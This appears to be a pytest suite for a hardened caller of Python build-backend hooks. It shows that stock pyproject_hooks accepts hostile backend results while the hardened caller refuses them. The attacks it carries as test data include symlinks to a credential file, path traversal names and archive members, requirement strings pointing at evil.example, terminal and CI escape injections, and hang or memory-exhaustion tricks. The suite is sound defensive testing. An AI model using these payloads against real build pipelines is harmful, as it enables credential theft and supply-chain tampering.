"""Hostile results of a hook (families H and I): stock pyproject_hooks accepts them, and our caller refuses them.

Each attack replaces the answer or the artefact of a tiny backend. First it must work on *stock*, the caller of
pyproject_hooks, which runs in its own process if the attack hangs it or uses up its memory.
"""

from __future__ import annotations

import hashlib
import importlib.metadata
import os
import signal
import subprocess
import sys
import warnings
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import pyproject_hooks
import pytest
from build.env import DefaultIsolatedEnv
from packaging.version import Version
from support.attacks.place import processes_naming, quiet

from isolated_hooks import IsolatedHookCaller, Policy, UntrustedResultError
from isolated_hooks.selftest.world.processes import until

pytestmark = pytest.mark.usefixtures("sandbox")

SECRET = "machine index.example login me password hunter2"

_BACKEND = r'''
import base64, hashlib, io, json, os, socket, stat, sys, tarfile, zipfile

SECRET = os.environ.get("WHERE_THE_SECRET_IS", "")
WHEEL, INFO = "example-1.0-py3-none-any.whl", "example-1.0.dist-info"
METADATA = "Metadata-Version: 2.1\nName: example\nVersion: 1.0\n"
REQUIRES = []

def answer(action):
    """Replace output.json at exit, after the hook script has written it."""
    import atexit
    path = os.path.join(sys.argv[2], "output.json")
    def act():
        os.path.lexists(path) and os.unlink(path)
        action(path)
    atexit.register(act)

def document(**changes):
    text = json.dumps({"return_val": REQUIRES, "warnings": [], **changes})
    answer(lambda path: open(path, "w").write(text))

def get_requires_for_build_wheel(config_settings=None):
    exec(config_settings["code"], globals())
    return REQUIRES

def prepare_metadata_for_build_wheel(metadata_directory, config_settings=None):
    os.mkdir(os.path.join(metadata_directory, INFO))
    with open(os.path.join(metadata_directory, INFO, "METADATA"), "w") as file:
        file.write(METADATA)
    globals()["returned"] = INFO
    exec(config_settings["code"], globals(), {"directory": os.path.join(metadata_directory, INFO)})
    return returned

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    path = os.path.join(wheel_directory, WHEEL)
    files = {"example.py": "", INFO + "/METADATA": METADATA, INFO + "/WHEEL": "Wheel-Version: 1.0\n"}
    record = ""
    with zipfile.ZipFile(path, "w") as wheel:
        for name, text in files.items():
            digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
            record += f"{name},sha256={digest},{len(text)}\n"
            wheel.writestr(name, text)
        wheel.writestr(INFO + "/RECORD", record + INFO + "/RECORD,,\n")
    globals()["returned"] = WHEEL
    exec(config_settings["code"], globals(), {"path": path, "directory": wheel_directory})
    return returned

def build_sdist(sdist_directory, config_settings=None):
    path = os.path.join(sdist_directory, "example-1.0.tar.gz")
    with tarfile.open(path, "w:gz") as sdist:
        member = tarfile.TarInfo("example-1.0/PKG-INFO")
        member.size = len(METADATA)
        sdist.addfile(member, io.BytesIO(METADATA.encode()))
        exec(config_settings["code"], globals(), {"path": path, "sdist": sdist, "directory": sdist_directory})
    return "example-1.0.tar.gz"
'''

_STOCK = """
import json, sys, resource
import pyproject_hooks
resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
caller = pyproject_hooks.BuildBackendHookCaller(sys.argv[1], "tiny", ["."], pyproject_hooks.quiet_subprocess_runner)
try:
    print("returned", repr(caller.get_requires_for_build_wheel({"code": sys.argv[2]})))
except BaseException as error:
    print(type(error).__name__, error, getattr(error, "doc", ""))
"""


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    path = tmp_path / "tree"
    path.mkdir()
    (path / "tiny.py").write_text(_BACKEND)
    (path / "pyproject.toml").write_text('[project]\nname = "example"\nversion = "1.0"\n')
    (tmp_path / "out").mkdir()
    (tmp_path / "netrc").write_text(SECRET + "\n")
    return path


def ours(tree: Path, **policy: Any) -> IsolatedHookCaller:
    return IsolatedHookCaller(str(tree), "tiny", ["."], quiet, policy=Policy(**policy))


def stock(tree: Path) -> pyproject_hooks.BuildBackendHookCaller:
    return pyproject_hooks.BuildBackendHookCaller(str(tree), "tiny", ["."], quiet)


def output_of_stock(tree: Path, code: str, *, seconds: float = 60) -> str:
    """Call a hook with stock in its own process, and return the output, or ``"hangs"`` if the process does not end."""
    argv = [sys.executable, "-c", _STOCK, str(tree), code]
    try:
        return subprocess.run(argv, capture_output=True, text=True, timeout=seconds, check=False).stdout
    except subprocess.TimeoutExpired:
        return "hangs"


def refused(tree: Path, code: str, **policy: Any) -> UntrustedResultError:
    with pytest.raises(UntrustedResultError) as caught:
        ours(tree, **policy).get_requires_for_build_wheel({"code": code})
    assert SECRET not in str(caught.value)
    assert str(caught.value).isprintable()
    return caught.value


# I01 to I04: output.json.


def test_output_json_as_link_to_a_secret(tree: Path) -> None:
    """I01: stock parses the secret, and keeps it in the error, which a log may print."""
    code = f"answer(lambda path: os.symlink({str(tree.parent / 'netrc')!r}, path))"
    assert SECRET in output_of_stock(tree, code)
    assert "opened" in refused(tree, code).rule


def test_output_json_as_fifo(tree: Path) -> None:
    """I02: stock waits for a writer that never comes."""
    code = "answer(os.mkfifo)"
    assert output_of_stock(tree, code, seconds=10) == "hangs"
    assert "regular file" in refused(tree, code).rule


@pytest.mark.parametrize("kind", ["/dev/zero", "sparse"])
def test_output_json_without_end(tree: Path, kind: str) -> None:
    """I03: stock reads it until its memory is exhausted, here at 2 GiB."""
    code = "answer(lambda path: os.symlink('/dev/zero', path))"
    if kind == "sparse":
        code = "answer(lambda path: os.close(os.open(path, 577, 0o600)) or os.truncate(path, 10 << 30))"
    assert "MemoryError" in output_of_stock(tree, code)
    refused(tree, code)


@pytest.mark.parametrize(
    ("code", "error"),
    [
        ("answer(os.mkdir)", "IsADirectoryError"),
        ("answer(lambda path: None)", "FileNotFoundError"),
        ("answer(lambda path: open(path, 'w').write('[1]'))", "AttributeError"),
        ("answer(lambda path: open(path, 'wb').write(b'\\xff'))", "UnicodeDecodeError"),
        ("answer(lambda path: open(path, 'w').write('[' * 200000))", "RecursionError"),
        ("answer(lambda path: open(path, 'w').write('{\"return_val\": ' + '9' * 5000 + '}'))", "ValueError"),
    ],
)
def test_output_json_that_is_none(tree: Path, code: str, error: str) -> None:
    """I04: stock raises a different error for each; we raise one. Python before 3.10.7 reads any number of digits."""
    output = output_of_stock(tree, code)
    assert error in output or (error == "ValueError" and "returned" in output), output
    refused(tree, code)


# I05, I15: names.


@pytest.mark.parametrize("name", ["../../../etc/passwd", "~/.netrc", ".", "", "/etc/passwd", {"a": 1}, 7, None])
def test_a_returned_name_that_is_none(tree: Path, name: object) -> None:
    """I05: stock returns the name, and frontends join it to the output directory."""
    out, code = str(tree.parent / "out"), {"code": f"global returned; returned = {name!r}"}
    assert stock(tree).build_wheel(out, code) == name
    with pytest.raises(UntrustedResultError):
        ours(tree).build_wheel(out, code)


_OTHER = "os.rename(path, os.path.join(directory, returned))"


@pytest.mark.parametrize("hook", ["build_wheel", "prepare_metadata_for_build_wheel"])
def test_what_is_named_after_another_project(tree: Path, hook: str) -> None:
    """I15: stock accepts any project name from the hook, and so would a frontend that publishes the wheel."""
    code = "global returned; returned = 'requests' + returned[7:]\n"
    code += _OTHER if hook == "build_wheel" else "os.rename(directory, directory.replace(INFO, returned))"
    out, settings = str(tree.parent / "out"), {"code": code}
    assert str(getattr(stock(tree), hook)(out, settings)).startswith("requests-")
    (earlier,) = os.listdir(out)
    with pytest.raises(UntrustedResultError, match="named after the project, which is 'example'"):
        getattr(ours(tree), hook)(out, settings)
    assert os.listdir(out) == [earlier]
    assert getattr(ours(tree, allow_other_names=True), hook)(out, settings) == earlier


def test_another_name_by_changing_what_it_is_compared_with(tree: Path) -> None:
    """I15: an earlier hook writes another name into pyproject.toml."""
    code = "open('pyproject.toml', 'w').write('[project]\\nname = \"requests\"\\n')"
    assert "must not change" in refused(tree, code).rule
    (tree / "pyproject.toml").write_text('[project]\nname = "example"\n')
    # If a hook changes the name only for itself, its result is compared with the name before the hook.
    out = str(tree.parent / "out")
    with pytest.raises(UntrustedResultError, match=r"must not change|named after"):
        ours(tree).build_wheel(
            out, {"code": f"{code}\nglobal returned\nreturned = 'requests' + returned[7:]\n{_OTHER}"}
        )
    assert os.listdir(out) == []


@pytest.mark.parametrize(
    "end", ["raise SystemExit(1)", "os._exit(3)", "os.kill(os.getpid(), 9)", "returned = ['-r x']"]
)
def test_another_name_by_a_hook_that_fails(tree: Path, end: str) -> None:
    """I15: the frontend may go on after a failure, and the next hook would be compared with the new name."""
    code = f"open('pyproject.toml', 'w').write('[project]\\nname = \"requests\"\\n')\nglobal returned\n{end}"
    assert "must not change" in refused(tree, code).rule


def test_another_version_than_was_prepared(tree: Path) -> None:
    """I15: the wheel's metadata would differ from the prepared metadata, which a resolver has used."""
    out, nothing = str(tree.parent / "out"), {"code": ""}
    metadata = stock(tree).prepare_metadata_for_build_wheel(out, nothing)
    prepared = os.path.join(out, metadata)
    other = {"code": f"global returned; returned = returned.replace('1.0', '9.9')\n{_OTHER}"}
    assert stock(tree).build_wheel(out, other, prepared).startswith("example-9.9")
    os.unlink(os.path.join(out, "example-9.9-py3-none-any.whl"))
    with pytest.raises(UntrustedResultError, match=r"prepared metadata, example 1\.0"):
        ours(tree).build_wheel(out, other, prepared)
    assert ours(tree).build_wheel(out, nothing, prepared) == "example-1.0-py3-none-any.whl"


def test_a_stale_file_is_not_returned(tree: Path) -> None:
    """I15: a file that was already in the output directory is not a result of this hook."""
    out = tree.parent / "out"
    (out / "example-0.9-py3-none-any.whl").write_bytes(b"earlier")
    code = {"code": "global returned; returned = 'example-0.9-py3-none-any.whl'"}
    assert stock(tree).build_wheel(str(out), code) == "example-0.9-py3-none-any.whl"
    (out / "example-1.0-py3-none-any.whl").unlink()
    with pytest.raises(UntrustedResultError, match="No such file"):
        ours(tree).build_wheel(str(out), code)
    assert (out / "example-0.9-py3-none-any.whl").read_bytes() == b"earlier"


# I07: warnings.


def test_a_warning_that_quotes_a_file(tree: Path) -> None:
    """I07: Python's warnings module prints the named line of any file that the frontend can read."""
    path = str(tree.parent / "netrc")
    code = f"document(warnings=[{{'message': 'm', 'filename': {path!r}, 'lineno': 1}}])"
    shown = {}
    for name, caller in (("stock", stock(tree)), ("ours", ours(tree))):
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            caller.get_requires_for_build_wheel({"code": code})
        shown[name] = "".join(warnings.formatwarning(w.message, w.category, w.filename, w.lineno) for w in caught)
    if _forwards_warnings():
        assert SECRET in shown["stock"]
    assert SECRET not in shown["ours"]
    assert path in shown["ours"] or not _forwards_warnings()  # the message names the file, and nothing opens it


def test_a_warning_whose_file_has_no_end(tree: Path) -> None:
    """I07: if the file is a FIFO, the warnings module hangs."""
    os.mkfifo(tree.parent / "fifo")
    code = f"document(warnings=[{{'message': 'm', 'filename': {str(tree.parent / 'fifo')!r}, 'lineno': 1}}])"
    if _forwards_warnings():
        assert output_of_stock(tree, code, seconds=10) == "hangs"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        ours(tree).get_requires_for_build_wheel({"code": code})
    for w in caught:
        warnings.formatwarning(w.message, w.category, w.filename, w.lineno)


def _forwards_warnings() -> bool:
    return Version(importlib.metadata.version("pyproject_hooks")) >= Version("1.3")


# I08, I09: requirements.


@pytest.mark.parametrize(
    "item",
    [
        "-r /etc/passwd",
        "--index-url http://evil.example/",
        "a\n--extra-index-url http://evil.example/",
        "x @ file:///etc/passwd",
        "x @ git+ssh://evil.example/x",
        "./local",
        "-e .",
        "a\\\nb",
        "x @ https://${SECRET}@evil.example/x",
    ],
)
def test_a_requirement_that_is_an_option_or_a_place(tree: Path, item: str) -> None:
    """I08, I09: stock returns it, and build writes it to a requirements file, which pip obeys."""
    code = f"REQUIRES[:] = [{item!r}]"
    assert stock(tree).get_requires_for_build_wheel({"code": code}) == [item]
    assert "requirement" in refused(tree, code).rule


def test_a_requirement_that_has_pip_quote_a_file(tree: Path, capfd: pytest.CaptureFixture[str]) -> None:
    """I08: through build, pip prints a file that a requirement names."""
    code = f"REQUIRES[:] = ['-r {tree.parent / 'netrc'}']"
    with DefaultIsolatedEnv(installer="pip") as env:
        requires = stock(tree).get_requires_for_build_wheel({"code": code})
        with pytest.raises(subprocess.CalledProcessError) as caught:
            env.install(requires)
    output = caught.value.stderr or b""
    assert "hunter2" in (output if isinstance(output, str) else output.decode())
    refused(tree, code)


def test_a_url_is_a_matter_of_policy(tree: Path) -> None:
    code = "REQUIRES[:] = ['x @ https://index.example/x-1.0.tar.gz']"
    refused(tree, code)
    allowed = ours(tree, allow_url_requirements=True).get_requires_for_build_wheel({"code": code})
    assert allowed == ["x @ https://index.example/x-1.0.tar.gz"]


# I10, H08, H09: texts.


@pytest.mark.parametrize("flags", [{"unsupported": "yes"}, {"no_backend": 1}, {"hook_missing": [], "evil": True}])
def test_flags_of_a_wrong_kind(tree: Path, flags: Mapping[str, object]) -> None:
    """I10: stock accepts any truthy value as true."""
    assert refused(tree, f"document(**{flags!r})")


def test_texts_that_steer_a_terminal_or_a_ci(tree: Path) -> None:
    """H08, H09, I10: in errors that the frontend raises and logs."""
    text = "\x1b]0;title\x07\u202e\n::set-env name=A::b\n##vso[x]" + "x" * (1 << 20)
    code = f"document(no_backend=True, return_val=None, traceback={text!r}, backend_error={text!r})"
    messages = []
    for caller in (stock(tree), ours(tree)):
        with pytest.raises(pyproject_hooks.BackendUnavailable) as caught:
            caller.get_requires_for_build_wheel({"code": code})
        messages.append(str(caught.value) + caught.value.traceback)
    for command in ("\x1b", "\u202e", "\n::set-env", "##vso["):
        assert command in messages[0]
        assert command not in messages[1]
    assert len(messages[1]) < 256 << 10 < len(messages[0])


def test_a_refusal_shows_what_it_refuses_escaped(tree: Path) -> None:
    problem = refused(tree, r"REQUIRES[:] = ['a\x1b]0;x\x07\u202e##vso[x]']")
    assert "\\x1b]0;x\\x07\\u202e##vso\\x5bx]" in problem.text
    assert "control" in problem.rule


# I11, I12, I18: artefacts and metadata.


@pytest.mark.parametrize(
    "code",
    [
        "os.unlink(path); os.symlink({secret!r}, path)",
        "os.unlink(path); os.mkfifo(path)",
        "os.unlink(path); os.chdir(directory); socket.socket(socket.AF_UNIX).bind(returned)",
        "os.unlink(path); os.mkdir(path)",
        "os.link(path, path + '.again')",
    ],
)
def test_an_artefact_that_is_no_plain_file(tree: Path, code: str) -> None:
    """I11: stock returns the name, and the frontend copies or uploads the file behind the link."""
    out = str(tree.parent / "out")
    settings = {"code": code.format(secret=str(tree.parent / "netrc"))}
    name = stock(tree).build_wheel(out, settings)
    assert os.path.lexists(os.path.join(out, name))
    if "symlink" in code:
        assert SECRET in Path(out, name).read_text()
    subprocess.run(["rm", "-rf", out], check=True)
    with pytest.raises(UntrustedResultError):
        ours(tree).build_wheel(out, settings)
    assert not os.path.exists(out) or os.listdir(out) == []


def test_an_artefact_s_attributes_stay_behind(tree: Path) -> None:
    """I11: the copy gets its mode from the umask, and no extended attributes."""
    out = str(tree.parent / "out")
    code = "os.chmod(path, 0o777)\ntry:\n    os.setxattr(path, 'user.evil', b'x')\nexcept OSError:\n    pass"
    name = ours(tree).build_wheel(out, {"code": code})
    assert os.listxattr(os.path.join(out, name)) == []
    assert os.stat(os.path.join(out, name)).st_mode & 0o111 == 0


def test_exactly_the_returned_artefact_leaves(tree: Path) -> None:
    code = (
        "for n in ('a.pth', 'example-2.0-py3-none-any.whl', '.hidden'): open(os.path.join(directory, n), 'w').close()"
    )
    out = str(tree.parent / "out")
    assert stock(tree).build_wheel(out, {"code": code}) in os.listdir(out)
    assert len(os.listdir(out)) == 4
    subprocess.run(["rm", "-rf", out], check=True)
    name = ours(tree).build_wheel(out, {"code": code})
    assert os.listdir(out) == [name]


def test_an_artefact_is_not_changed_by_what_the_hook_left_running(tree: Path) -> None:
    """I12: a process of the hook goes on writing after the hook has returned."""
    code = """
os.unlink(path)
open(path, "w").write("good" * 100)
if os.fork() == 0:
    os.close(1), os.close(2)
    open("pid", "w").write(str(os.getpid()))
    while True:
        with open(path, "r+b") as file:
            file.write(os.urandom(8))
while not os.path.exists("pid"):
    pass
"""
    out = str(tree.parent / "out")
    name = stock(tree).build_wheel(out, {"code": code})
    try:
        earlier = Path(out, name).read_bytes()
        assert until(lambda: Path(out, name).read_bytes() != earlier), (
            "with stock, no process goes on writing, so this proves nothing"
        )
    finally:
        os.kill(int((tree / "pid").read_text()), signal.SIGKILL)
    (tree / "pid").unlink()
    os.unlink(os.path.join(out, name))
    caller = ours(tree)
    assert caller.build_wheel(out, {"code": code}) == name
    assert caller.reports[-1].artefacts[0].sha256 == hashlib.sha256(Path(out, name).read_bytes()).hexdigest()
    assert processes_naming(tree) == []


@pytest.mark.parametrize(
    "code",
    [
        "os.unlink(directory + '/METADATA'); os.symlink({secret!r}, directory + '/METADATA')",
        "os.mkfifo(directory + '/fifo')",
        "os.truncate(directory + '/METADATA', 5 << 30)",
        "os.mkdir(directory + '/\\x1b[2J')",
    ],
)
def test_prepared_metadata_that_are_no_plain_files(tree: Path, code: str) -> None:
    """I18: stock accepts them, and the frontend reads the secret as metadata."""
    out = str(tree.parent / "out")
    settings = {"code": code.format(secret=str(tree.parent / "netrc"))}
    name = stock(tree).prepare_metadata_for_build_wheel(out, settings)
    assert os.path.isdir(os.path.join(out, name))
    if "symlink" in code:
        assert SECRET in Path(out, name, "METADATA").read_text()
    subprocess.run(["rm", "-rf", out], check=True)
    with pytest.raises(UntrustedResultError):
        ours(tree).prepare_metadata_for_build_wheel(out, settings)


# I16, I17: archives, with the deep check.


@pytest.mark.parametrize(
    "code",
    [
        "with zipfile.ZipFile(path, 'a') as z: z.writestr('../evil.py', 'x')",
        "with zipfile.ZipFile(path, 'a') as z: z.writestr('unrecorded.py', 'x')",
        "with open(path, 'ab') as f: f.write(b'x')",
        "data = open(path, 'rb').read(); open(path, 'wb').write(b'#!/bin/sh\\n' + data)",
        "open(path, 'w').write('no wheel at all')",
    ],
)
def test_a_hostile_wheel(tree: Path, code: str) -> None:
    out, settings = str(tree.parent / "out"), {"code": code}
    assert ours(tree).build_wheel(out, settings)  # the check is optional: without it, the frontend gets the wheel
    (name,) = os.listdir(out)
    before = Path(out, name).read_bytes()
    with pytest.raises(UntrustedResultError):
        ours(tree, deep_check=True).build_wheel(out, settings)
    assert Path(out, name).read_bytes() == before
    assert ours(tree, deep_check=True).build_wheel(out, {"code": ""}) == name
    assert os.listdir(out) == [name]


@pytest.mark.parametrize(
    "code",
    [
        "m = tarfile.TarInfo('example-1.0/l'); m.type = tarfile.SYMTYPE; m.linkname = '/etc/passwd'; sdist.addfile(m)",
        "m = tarfile.TarInfo('../evil'); sdist.addfile(m)",
        "m = tarfile.TarInfo('example-1.0/f'); m.type = tarfile.FIFOTYPE; sdist.addfile(m)",
        "m = tarfile.TarInfo('example-1.0/s'); m.mode = 0o4755; sdist.addfile(m)",
    ],
)
def test_a_hostile_sdist(tree: Path, code: str) -> None:
    out, settings = str(tree.parent / "out"), {"code": code}
    assert ours(tree).build_sdist(out, settings)
    with pytest.raises(UntrustedResultError):
        ours(tree, deep_check=True).build_sdist(out, settings)
    assert ours(tree, deep_check=True).build_sdist(out, {"code": ""}) == "example-1.0.tar.gz"


@pytest.mark.parametrize(
    "code", ["open(directory + '/METADATA', 'w').write('Name: other')", "os.unlink(directory + '/METADATA')"]
)
def test_hostile_metadata(tree: Path, code: str) -> None:
    out, settings = str(tree.parent / "out"), {"code": code}
    assert ours(tree).prepare_metadata_for_build_wheel(out, settings)
    with pytest.raises(UntrustedResultError):
        ours(tree, deep_check=True).prepare_metadata_for_build_wheel(out, settings)


# I20: cleaning up.


def test_cleaning_up_changes_nothing_outside(tree: Path) -> None:
    """I20: in older Pythons, TemporaryDirectory follows links when it changes modes to remove files (CVE-2023-6597)."""
    victim = tree.parent / "victim"
    victim.mkdir(mode=0o500)
    os.chmod(victim, 0o500)
    code = f"""
os.makedirs("/tmp/a/b")
for top in ("/tmp/a", os.path.dirname(sys.argv[2]), sys.argv[2], os.path.expanduser("~")):
    try:
        os.symlink({str(victim)!r}, top + "/link")
        os.mkdir(top + "/closed")
        os.symlink({str(victim)!r}, top + "/closed/link")
        os.chmod(top + "/closed", 0)
    except OSError:
        pass
"""
    assert ours(tree).get_requires_for_build_wheel({"code": code}) == []
    assert victim.stat().st_mode & 0o777 == 0o500
